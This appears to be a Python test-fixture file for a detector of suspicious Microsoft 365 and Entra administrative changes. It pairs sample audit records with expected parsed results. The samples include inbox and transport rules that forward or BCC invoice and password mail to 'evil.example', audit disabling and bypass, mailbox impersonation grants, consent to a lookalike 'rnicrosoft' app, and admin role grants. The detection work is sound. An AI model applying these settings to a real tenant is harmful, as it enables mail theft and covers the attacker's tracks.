"""Records of changes by administrators, each with what becomes of it, and records of no change of interest."""

from __future__ import annotations

import json

from audit_records import APP, GRAPH, MAILBOX, PATH, audit, cmdlet, directory, properties

GRANT = (
    "[[Id: old, ClientId: c, ConsentType: Principal, Scope: User.Read]] => "
    "[[Id: x, ClientId: c, PrincipalId: p, ResourceId: r, ConsentType: %s, Scope:  offline_access Mail.Read]]; "
)
SP_TARGET = [
    {"ID": "ServicePrincipal_7c2b7975-fded-4a38-b0cb-6dd006f3400a", "Type": 2},
    {"ID": "rnicrosoft", "Type": 1},
    {"ID": APP, "Type": 4},
]
USER_TARGET = [{"ID": "User_1", "Type": 2}, {"ID": "Mallory@Contoso.example", "Type": 5}]

CHANGES = {
    "hide rule": (
        cmdlet(
            "New-InboxRule",
            {"From": "it@evil.example", "Name": ".", "DeleteMessage": "True", "StopProcessingRules": "True"},
            ObjectId=PATH + "Adele\\.",
        ),
        {
            "change": "inbox_rule",
            "target": "Adele",
            "target_key": "adele",
            "rule_name": ".",
            "rule_effects": ["delete", "stop"],
            "rule_conditions": ["it@evil.example"],
            "destinations": [],
            "external_destinations": [],
        },
    ),
    "forwarding rule": (
        cmdlet(
            "set-InboxRule",
            {
                "Identity": "Adele\\Bills",
                "ForwardTo": '"M" [SMTP:M@Evil.example];Bob',
                "RedirectTo": "b@Contoso.example",
                "MoveToFolder": "RSS Feeds",
                "MarkAsRead": "True",
                "SubjectOrBodyContainsWords": "invoice;payment",
                "DeleteMessage": "False",
            },
        ),
        {
            "change": "inbox_rule",
            "object_id": "Adele\\Bills",
            "target": "Adele",
            "rule_name": "Bills",
            "rule_effects": ["forward", "mark_read", "move", "redirect"],
            "rule_conditions": ["invoice", "payment"],
            "destinations": ["b@contoso.example", "bob", "m@evil.example"],
            "external_destinations": ["m@evil.example"],
        },
    ),
    "destinations without any domain to compare": (
        cmdlet("New-InboxRule", {"Name": "x", "ForwardTo": "m@evil.example"}, UserId="S-1-5-18", OrganizationName=None),
        {"destinations": ["m@evil.example"], "external_destinations": None, "target": "S-1-5-18"},
    ),
    "rule within the mailbox": (
        audit(
            "UpdateInboxRules",
            RecordType=2,
            MailboxGuid=MAILBOX,
            MailboxOwnerUPN="adele@contoso.example",
            OperationProperties=properties(
                ("RuleOperation", "AddMailboxRule"),
                ("RuleName", ".."),
                ("RuleCondition", "(SubjectContains invoice)"),
                ("RuleActions", '[{"ActionType":"Forward","Recipients":["m@evil.example"]},{"ActionType":"Delete"}]'),
            ),
        ),
        {
            "change": "inbox_rule",
            "target": "adele@contoso.example",
            "rule_name": "..",
            "rule_effects": ["delete", "forward"],
            "rule_conditions": ["(SubjectContains invoice)"],
            "external_destinations": ["m@evil.example"],
        },
    ),
    "transport rule": (
        cmdlet(
            "New-TransportRule",
            {"Name": ".", "BlindCopyTo": "M@evil.example", "SubjectOrBodyContainsWords": "password;invoice"},
            ObjectId="",
        ),
        {
            "change": "transport_rule",
            "rule_name": ".",
            "target": "contoso.onmicrosoft.com",
            "rule_effects": ["bcc"],
            "rule_conditions": ["invoice", "password"],
            "destinations": ["m@evil.example"],
            "external_destinations": ["m@evil.example"],
        },
    ),
    "forwarding": (
        cmdlet(
            "Set-Mailbox",
            {
                "Identity": PATH + "Adele",
                "ForwardingSmtpAddress": "smtp:m@evil.example",
                "DeliverToMailboxAndForward": "True",
            },
            ObjectId="Adele",
        ),
        {"change": "mailbox_forwarding", "target": "Adele", "external_destinations": ["m@evil.example"]},
    ),
    "send on behalf": (
        cmdlet("Set-Mailbox", {"Identity": PATH + "Adele", "GrantSendOnBehalfTo": PATH + "Mallory"}, ObjectId="Adele"),
        {"change": "send_on_behalf", "target": "Adele", "grantee": "Mallory", "grantee_key": "mallory"},
    ),
    "mailbox audit off": (
        cmdlet("Set-Mailbox", {"Identity": "Adele", "AuditEnabled": "False"}),
        {"change": "mailbox_audit_disabled", "target": "Adele"},
    ),
    "mailbox audit list shortened": (
        cmdlet("Set-Mailbox", {"Identity": "Adele", "AuditOwner": '{"Remove":["MailItemsAccessed"]}'}),
        {"change": "mailbox_audit_disabled"},
    ),
    "hidden mailbox": (
        cmdlet("Set-Mailbox", {"Identity": "Adele", "HiddenFromAddressListsEnabled": "True"}),
        {"change": "other", "target": "Adele"},
    ),
    "full access": (
        cmdlet(
            "Add-MailboxPermission",
            {"Identity": PATH + "Adele", "User": PATH + "Mallory", "AccessRights": "FullAccess, ReadPermission"},
            ObjectId="Adele",
        ),
        {
            "change": "mailbox_permission",
            "object_id": "Adele",
            "target": "Adele",
            "grantee": "Mallory",
            "rights": ["FullAccess", "ReadPermission"],
        },
    ),
    "send as": (
        cmdlet("Add-RecipientPermission", {"Identity": "Adele", "Trustee": "Mallory", "AccessRights": "SendAs"}),
        {"change": "recipient_permission", "target": "Adele", "grantee": "Mallory", "rights": ["SendAs"]},
    ),
    "folder": (
        cmdlet(
            "Add-MailboxFolderPermission", {"Identity": "Adele:\\Inbox", "User": "Default", "AccessRights": "Owner"}
        ),
        {"change": "folder_permission", "target": "Adele", "grantee": "Default", "rights": ["Owner"]},
    ),
    "folder within the mailbox": (
        audit(
            "ModifyFolderPermissions",
            RecordType=2,
            MailboxOwnerUPN="adele@contoso.example",
            Item={"ParentFolder": {"MemberRights": "ReadAny, Visible", "MemberUpn": "Everyone", "Path": "\\Inbox"}},
        ),
        {
            "change": "folder_permission",
            "object_id": "\\Inbox",
            "target": "adele@contoso.example",
            "grantee": "Everyone",
            "rights": ["ReadAny", "Visible"],
        },
    ),
    "audit bypass": (
        cmdlet("Set-MailboxAuditBypassAssociation", {"Identity": "Mallory", "AuditBypassEnabled": "True"}),
        {"change": "audit_bypass", "target": "Mallory"},
    ),
    "audit off": (
        cmdlet("Set-AdminAuditLogConfig", {"UnifiedAuditLogIngestionEnabled": "False"}),
        {"change": "audit_disabled"},
    ),
    "impersonation": (
        cmdlet("New-ManagementRoleAssignment", {"Role": "ApplicationImpersonation", "User": "Mallory"}),
        {"change": "management_role", "grantee": "Mallory", "rights": ["ApplicationImpersonation"]},
    ),
    "role group": (
        cmdlet("Add-RoleGroupMember", {"Identity": "Organization Management", "Member": "Mallory"}),
        {"change": "management_role", "grantee": "Mallory", "rights": ["Organization Management"]},
    ),
    "connector": (cmdlet("New-InboundConnector", {"Name": "relay"}), {"change": "connector", "target": "relay"}),
    "search by command line": (
        audit("New-ComplianceSearch", RecordType=18, Parameters='-Name "all mail" -ExchangeLocation "All" -Force'),
        {"change": "compliance_search", "target": "all mail"},
    ),
    "consent for oneself": (
        directory(
            "Consent to application.",
            ("ConsentContext.IsAdminConsent", "True"),
            ("ConsentContext.OnBehalfOfAll", "False"),
            ("ConsentAction.Permissions", GRANT % "Principal"),
            ObjectId=APP,
            Target=SP_TARGET,
        ),
        {
            "change": "consent",
            "target": "rnicrosoft",
            "rights": ["Mail.Read", "offline_access"],
            "changed_app_id": APP,
            "changed_app_name": "rnicrosoft",
            "is_admin_consent": False,
        },
    ),
    "consent for all": (
        directory("Consent to application.", ("ConsentAction.Permissions", GRANT % "AllPrincipals"), ObjectId=APP),
        {"is_admin_consent": True, "target": APP},
    ),
    "consent without details": (
        directory("Consent to application.", ObjectId="ServicePrincipal_x"),
        {"is_admin_consent": None, "rights": None, "changed_app_id": None, "target": "ServicePrincipal_x"},
    ),
    "delegated grant": (
        directory(
            "Add delegated permission grant.",
            ("DelegatedPermissionGrant.Scope", " Mail.Read openid"),
            ("DelegatedPermissionGrant.ConsentType", "AllPrincipals"),
            ("ServicePrincipal.ObjectID", "7c2b7975-fded-4a38-b0cb-6dd006f3400a"),
            ("ServicePrincipal.AppId", ""),
            ("TargetId.ServicePrincipalNames", GRAPH),
            ObjectId=f"{GRAPH}/graph;{GRAPH}",
            Target=[{"ID": "Microsoft Graph", "Type": 1}],
        ),
        {
            "change": "delegated_grant",
            "target": "7c2b7975-fded-4a38-b0cb-6dd006f3400a",
            "rights": ["Mail.Read", "openid"],
            "changed_app_id": None,
            "is_admin_consent": True,
        },
    ),
    "application permission": (
        directory(
            "Add app role assignment to service principal.",
            ("AppRole.Value", "Mail.Read"),
            ("ServicePrincipal.AppId", APP),
            ("ServicePrincipal.DisplayName", "reader"),
            ObjectId=GRAPH,
        ),
        {"change": "app_role_grant", "rights": ["Mail.Read"], "changed_app_id": APP, "changed_app_name": "reader"},
    ),
    "application for a user": (
        directory("Add app role assignment grant to user.", ("User.UPN", "adele@contoso.example"), ObjectId=APP),
        {"change": "user_app_grant", "grantee": "adele@contoso.example", "changed_app_id": APP},
    ),
    "secret": (
        directory(
            "Update application \u2013 Certificates and secrets management ",
            ("KeyDescription", '[\r\n  "[KeyIdentifier=1,KeyType=Password]"\r\n]'),
            ObjectId="Application_8d8d96a4-edb4-495c-a412-6e72c7e21084",
            Target=[{"ID": "rnicrosoft", "Type": 1}],
            ExtendedProperties=properties(("additionalDetails", json.dumps({"AppId": APP}))),
        ),
        {"change": "app_credential", "changed_app_name": "rnicrosoft", "changed_app_id": APP},
    ),
    "secret in a plain update": (
        directory("Update application.", ("Included Updated Properties", "KeyDescription"), ObjectId="Application_x"),
        {"change": "app_credential", "target": "Application_x"},
    ),
    "plain update": (
        directory("Update service principal.", ("Included Updated Properties", ""), ObjectId=APP, Target=SP_TARGET),
        {"change": "app_updated", "changed_app_id": APP},
    ),
    "new application": (
        directory("Add application.", ("AppId", f'[\r\n  "{APP}"\r\n]'), Target=[{"ID": "rnicrosoft", "Type": 1}]),
        {"change": "app_registered", "changed_app_id": APP, "target": "rnicrosoft"},
    ),
    "new service principal": (
        directory("Add service principal.", ObjectId=f"urn:x;{APP}", Target=SP_TARGET),
        {"change": "service_principal_added", "changed_app_id": APP},
    ),
    "owner": (
        directory(
            "Add owner to application.",
            ("Application.AppId", APP),
            ("Application.DisplayName", "x"),
            Target=USER_TARGET,
        ),
        {"change": "app_owner", "target": "x", "grantee": "Mallory@Contoso.example", "changed_app_id": APP},
    ),
    "role": (
        directory("Add member to role.", ("Role.DisplayName", '"Global Administrator"'), Target=USER_TARGET),
        {
            "change": "role_member",
            "target": "Mallory@Contoso.example",
            "grantee_key": "mallory@contoso.example",
            "rights": ["Global Administrator"],
        },
    ),
    "role without its name": (
        directory("Add member to role.", ("Role.DisplayName", ""), ("Role.WellKnownObjectName", "TenantAdmins")),
        {"rights": ["TenantAdmins"]},
    ),
    "group": (
        directory("Add member to group.", ("Group.DisplayName", "Finance"), Target=USER_TARGET),
        {"change": "group_member", "target": "Finance", "grantee": "Mallory@Contoso.example"},
    ),
    "federation": (
        directory("Set domain authentication.", Target=[{"ID": "contoso.example", "Type": 1}]),
        {"change": "domain_federation", "target": "contoso.example"},
    ),
    "new account": (
        directory("Add user.", Target=USER_TARGET),
        {"change": "account_added", "grantee": "Mallory@Contoso.example"},
    ),
    "password": (
        directory("Reset user password.", ObjectId="adele@contoso.example"),
        {"change": "password_reset", "target": "adele@contoso.example"},
    ),
    "second factor": (
        directory("Update user.", ("StrongAuthenticationMethod", "[]"), Target=USER_TARGET),
        {"change": "strong_auth", "target": "Mallory@Contoso.example"},
    ),
    "sessions": (
        directory("Update StsRefreshTokenValidFrom Timestamp.", Target=USER_TARGET),
        {"change": "sessions_revoked"},
    ),
}

NO_CHANGES = {
    "service noise": cmdlet("Set-MailboxPlan", {"Identity": "x"}),
    "quota": cmdlet("Set-Mailbox", {"Identity": "x", "ProhibitSendQuota": "1"}),
    "service hides its mailboxes": cmdlet(
        "Set-Mailbox",
        {"HiddenFromAddressListsEnabled": "True"},
        UserType=3,
        UserKey="NT AUTHORITY\\SYSTEM (w3wp)",
    ),
    "deliver and forward off": cmdlet("Set-Mailbox", {"DeliverToMailboxAndForward": "False"}),
    "bypass ends": cmdlet("Set-MailboxAuditBypassAssociation", {"AuditBypassEnabled": "False"}),
    "audit on": cmdlet("Set-AdminAuditLogConfig", {"AdminAuditLogEnabled": "True"}),
    "phone number": directory("Update user.", ("PhoneNumber", "1")),
    "rule removed": cmdlet("Remove-InboxRule", {"Identity": "Adele\\."}),
}
